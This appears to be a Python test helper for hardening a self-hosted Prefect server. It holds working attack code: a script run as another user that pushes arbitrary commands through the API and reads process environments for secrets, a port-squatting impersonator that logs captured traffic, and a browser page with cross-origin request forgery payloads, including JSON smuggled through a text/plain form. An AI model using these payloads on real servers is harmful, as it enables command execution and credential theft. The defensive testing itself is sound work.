"""What others do to our Prefect server: programs of another user of the machine, and a page in the admin's browser.

The programs run under another uid with the system's Python: our environment may lie where that uid cannot go.
"""

import json
import subprocess
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from pathlib import Path
from typing import Any

NOBODY = 65534
PYTHON = "/usr/bin/python3"

# Tries every way to have a command run that Prefect's API knows, reads what can be read, and prints what came of it.
_INTRUDER = r"""
import glob, json, ssl, sys, urllib.error, urllib.request

command, addresses, files = json.loads(sys.argv[1])
context = ssl.create_default_context()
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
done, seen = {}, {}


def ask(url, body=None, headers={}):
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(url, data, {"Content-Type": "application/json", **headers})
    try:
        with urllib.request.build_opener(
            urllib.request.ProxyHandler({}), urllib.request.HTTPSHandler(context=context)
        ).open(request, timeout=60) as answer:
            status, text = answer.status, answer.read().decode()
    except urllib.error.HTTPError as error:
        status, text = error.code, error.read().decode()
    except OSError as error:
        status, text = repr(error), ""
    done[url] = status
    try:
        return json.loads(text)
    except ValueError:
        return {}


for api in addresses:
    job = {"job_variables": {"command": command}}
    own = {"Authorization": "Basic YmFuamlhOmJhbmppYQ=="}
    token = ask(f"{api}/csrf-token?client=intruder")
    headers = {"Prefect-Csrf-Client": "intruder", "Prefect-Csrf-Token": (token or {}).get("token", "guessed")}
    for each in ({}, headers, {**headers, **own}):
        flow = ask(f"{api}/flows/", {"name": "intruder"}, each).get("id")
        wanted = {"name": "intruder", "flow_id": flow, "path": "/tmp", "entrypoint": "a.py:b", **job}
        made = ask(f"{api}/deployments/", {**wanted, "work_pool_name": "banjia"}, each).get("id")
        ask(f"{api}/deployments/{made}/create_flow_run", {"state": {"type": "SCHEDULED"}, **job}, each)
        ask(f"{api}/flow_runs/", {"flow_id": flow, "state": {"type": "SCHEDULED"}, **job}, each)
        ask(f"{api}/work_pools/banjia/get_scheduled_flow_runs", {}, each)
        ask(f"{api}/admin/settings", None, each)

for name in [*files, *glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline")]:
    try:
        with open(name, "rb") as file:
            seen[name] = file.read().decode("latin-1")
    except OSError:
        pass
print(json.dumps({"done": done, "seen": seen}))
"""

# Answers on a port like a Prefect server that has work to give, with a certificate of its own where it is asked for
# one, and writes down what it is told: `clear` octets, `broken` handshakes, and what came inside a `whole` one.
_SQUATTER = r"""
import json, socket, ssl, sys, threading

port, chain, key, heard = int(sys.argv[1]), *sys.argv[2:5]
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(chain, key)
listening = socket.socket()
listening.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
listening.bind(("127.0.0.1", port))
listening.listen(50)
log = open(heard, "a", buffering=1)
print("listening", flush=True)


def meet(peer):
    try:
        first = peer.recv(1, socket.MSG_PEEK)
        if first != b"\x16":
            print(json.dumps(["clear", peer.recv(65536).decode("latin-1")]), file=log)
            peer.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 4\r\n\r\ntrue")
            return
        peer = context.wrap_socket(peer, server_side=True)
        print(json.dumps(["whole", peer.recv(65536).decode("latin-1")]), file=log)
    except OSError as error:
        print(json.dumps(["broken", repr(error)]), file=log)
    finally:
        peer.close()


while True:
    threading.Thread(target=meet, args=(listening.accept()[0],)).start()
"""


def intrude(command: str, addresses: Sequence[str], files: Sequence[Path]) -> tuple[dict[str, Any], dict[str, str]]:
    """What another user gets: statuses by address, and the content of each file that could be read."""
    asked = json.dumps([command, list(addresses), list(map(str, files))])
    done = subprocess.run(
        [PYTHON, "-I", "-c", _INTRUDER, asked],
        user=NOBODY,
        group=NOBODY,
        extra_groups=[],
        cwd="/",
        capture_output=True,
        text=True,
        check=True,
        timeout=600,
    )
    found = json.loads(done.stdout)
    return found["done"], found["seen"]


@contextmanager
def squat(port: int, chain: Path, key: Path, heard: Path) -> Iterator[None]:
    """Another user's server on that port, which listens as long as the block lasts."""
    with subprocess.Popen(
        [PYTHON, "-I", "-c", _SQUATTER, str(port), str(chain), str(key), str(heard)],
        user=NOBODY,
        group=NOBODY,
        extra_groups=[],
        cwd="/",
        stdout=subprocess.PIPE,
        text=True,
    ) as squatter:
        try:
            assert squatter.stdout is not None
            assert squatter.stdout.readline() == "listening\n"
            yield
        finally:
            squatter.kill()


# A page that another origin serves. It sends to each address what a browser lets a page send anywhere, reads what it
# may read, puts the address into a frame, and reports what it got.
PAGE = """<!doctype html><title>news</title>
<script>
const [addresses, command] = JOB;
const got = [];
const body = {name: "intruder", flow_id: crypto.randomUUID(), state: {type: "SCHEDULED"}, job_variables: {command}};
async function attempt(what, doing) {
  try { got.push([what, await doing()]); } catch (error) { got.push([what, String(error)]); }
}
function submit(action) {
  const frame = document.createElement("iframe");
  frame.name = "form" + got.length;
  const form = document.createElement("form");
  Object.assign(form, {action, method: "post", enctype: "text/plain", target: frame.name});
  const field = document.createElement("input");
  field.name = JSON.stringify(body).slice(0, -1) + ',"x":"';
  field.value = '"}';
  form.append(field);
  document.body.append(frame, form);
  const loaded = new Promise(done => { frame.onload = done; setTimeout(done, 5000); });
  form.submit();
  return loaded.then(() => "sent");
}
async function chain(api) {
  const json = {"Content-Type": "application/json"};
  const post = async (path, what) =>
    (await fetch(api + path, {method: "POST", headers: json, body: JSON.stringify(what)})).json();
  const flow = (await post("/flows/", {name: "intruder"})).id;
  const job_variables = {command};
  const made = (await post("/deployments/", {name: "intruder", flow_id: flow, path: "/tmp", entrypoint: "a.py:b",
    work_pool_name: "banjia", job_variables})).id;
  return (await post(`/deployments/${made}/create_flow_run`, {state: {type: "SCHEDULED"}, job_variables})).id;
}
async function main() {
  for (const [api, start] of addresses) {
    await attempt("chain " + api, () => chain(api));
    await attempt("read " + api, async () => (await fetch(api + "/health")).text());
    for (const path of ["/flows/", "/flow_runs/", "/deployments/"]) {
      await attempt("plain " + api, async () => (await fetch(api + path,
        {method: "POST", mode: "no-cors", credentials: "include", body: JSON.stringify(body)})).type);
      await attempt("beacon " + api, async () => navigator.sendBeacon(api + path, JSON.stringify(body)));
      await attempt("form " + api, () => submit(api + path));
    }
    await attempt("socket " + api, () => new Promise(done => {
      const socket = new WebSocket(api.replace("http", "ws") + "/events/in", "prefect");
      socket.onopen = () => done("open");
      socket.onerror = () => done("refused");
    }));
    await attempt("frame " + start, () => new Promise(done => {
      const frame = document.createElement("iframe");
      frame.src = start;
      frame.onload = () => { try { done(frame.contentDocument ? "empty" : "shown"); } catch { done("shown"); } };
      document.body.append(frame);
    }));
  }
  await fetch("/got", {method: "POST", body: JSON.stringify(got)});
}
onload = main;
</script>
"""
